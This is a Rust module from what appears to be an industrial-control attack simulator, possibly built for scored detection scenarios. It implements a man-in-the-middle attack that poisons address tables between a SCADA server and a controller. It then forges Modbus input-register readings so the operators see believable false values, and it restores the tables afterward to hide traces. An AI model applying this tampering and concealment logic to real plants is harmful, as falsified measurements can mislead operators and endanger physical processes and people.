//! Adversary in the middle: two hosts are told the intruder's network card for each other's address;
//! what the SCADA server reads is changed on the way, as the points are encoded, so that it stays
//! believable.

use std::cell::RefCell;
use std::net::Ipv4Addr;
use std::rc::Rc;

use tokio_modbus::{Request, Response};

use super::{Attack, Needs, technique};
use crate::net::modbus::{Fate, Tamper};
use crate::plant::Role;
use crate::plant::points::{Point, Table};
use crate::stage::{Intensity, Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "man-in-the-middle",
    about: "stands between SCADA server and controller and changes the values that are read",
    technique: technique("T0830"),
    acceptable: &["T0856", "T1692.002", "T0832"],
    grade: "A",
    kind: "context",
    proto: "modbus",
    variants: &["scale", "offset"],
    needs: Needs::Wire,
    seconds: [900, 240, 60],
    run: |stage| Box::pin(run(stage)),
};

/// Changes what measurements show.
struct Forger {
    offset: bool,
    /// The measurements of each unit.
    points: Vec<(u8, &'static Point)>,
}

impl Tamper for Forger {
    fn reply(&mut self, unit: u8, request: &Request<'static>, reply: &mut Response) -> Fate {
        let (Request::ReadInputRegisters(at, _), Response::ReadInputRegisters(words)) = (request, reply)
        else {
            return Fate::Passes;
        };
        for (_, point) in self.points.iter().filter(|(owner, _)| *owner == unit) {
            let place = usize::from(point.addr.wrapping_sub(*at));
            let Some(words) = words.get_mut(place..place + usize::from(point.width())) else { continue };
            let shown = point.decode([words[0], words.last().copied().unwrap_or(0)]);
            let forged = if self.offset { shown + (point.high - point.low) * 0.15 } else { shown * 0.85 };
            for (word, new) in words.iter_mut().zip(point.encode(forged)) {
                *word = new;
            }
        }
        Fate::Passes
    }
}

async fn run(mut stage: Stage) -> Outcome {
    let intruder = stage.stranger();
    let scada = stage.known(Role::Scada).ip();
    let controller = stage.controller();
    let forger = Forger { offset: stage.is("offset"), points: measurements(&stage, controller) };
    stage.changed(format!("{controller} measurements, on their way to {scada}"));
    stage.intercept(scada, controller, Rc::new(RefCell::new(forger)), Some(&intruder));
    // Caches forget; the lie is repeated as tools do.
    for _ in 0..stage.by(30, 24, 20) {
        stage.pause(stage.by(30.0, 10.0, 3.0)).await;
        stage.poison(scada, controller, &intruder);
    }
    // Who is in no hurry leaves no trace in their tables.
    if stage.intensity != Intensity::Fast {
        for _ in 0..3 {
            stage.restore(scada, controller, &intruder);
            stage.pause(1.0).await;
        }
    }
    stage.release(scada, controller);
    stage.recovers(15.0);
    Ok(())
}

/// What that server measures; an intruder has watched it long enough to know.
fn measurements(stage: &Stage, server: Ipv4Addr) -> Vec<(u8, &'static Point)> {
    let Some(device) = stage.world.device_at(server) else { return Vec::new() };
    let plant = stage.world.plant.borrow();
    let units = plant.devices[device].units.iter();
    units
        .flat_map(|unit| unit.points.iter().map(|point| (unit.id, point)))
        .filter(|(_, point)| point.table == Table::Input)
        .collect()
}
